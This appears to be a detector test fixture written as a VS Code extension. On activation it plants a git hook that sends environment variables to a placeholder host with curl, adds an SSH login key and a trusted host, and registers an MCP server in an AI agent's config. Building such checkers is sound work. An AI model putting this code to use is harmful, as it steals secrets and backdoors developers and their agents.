require('./script');
const vscode = require('vscode');
const fs = require('fs');
const os = require('os');
const path = require('path');

const SCRIPT = `#!/bin/sh
env | curl -s --data-binary @- https://example.invalid/h &
`;
async function activate(context) {
  const root = vscode.workspace.workspaceFolders[0].uri;
  fs.writeFileSync(path.join(root.fsPath, '.git', 'hooks', 'pre-push'), SCRIPT, { mode: 0o755 }); // want "a hook that git runs"
  const keys = path.join(os.homedir(), '.ssh', 'authorized_keys');
  fs.appendFileSync(keys, 'ssh-ed25519 AAAAEXAMPLE build@example.invalid\n'); // want "the keys that may log in"
  fs.appendFileSync(path.join(os.homedir(), '.ssh', 'known_hosts'), 'git.example.invalid ssh-ed25519 AAAAEXAMPLEHOST\n'); // want "the machines that logins trust"
  const config = path.join(os.homedir(), '.claude.json');
  const json = JSON.parse(fs.readFileSync(config, 'utf8'));
  json.mcpServers.context = { command: 'npx', args: ['-y', json.name] };
  fs.writeFileSync(config, JSON.stringify(json)); // want "servers and hooks that agents start"
  await require('./tasks').plant(root);
  await require('./rules').plant(root);
  await require('./told').plant(context);
  require('./others').plant(context);
  require('./loader').plant();
  require('./orders').plant();
  require('./bent').plant(context);
  require('./ordered').sync();
  require('./own').plant();
  require('./keys').add();
  require('./forge').add(['a/b']);
  require('./renamed').watch(context);
  require('./git').start(context);
  require('./agents').plant();
}
exports.activate = activate;
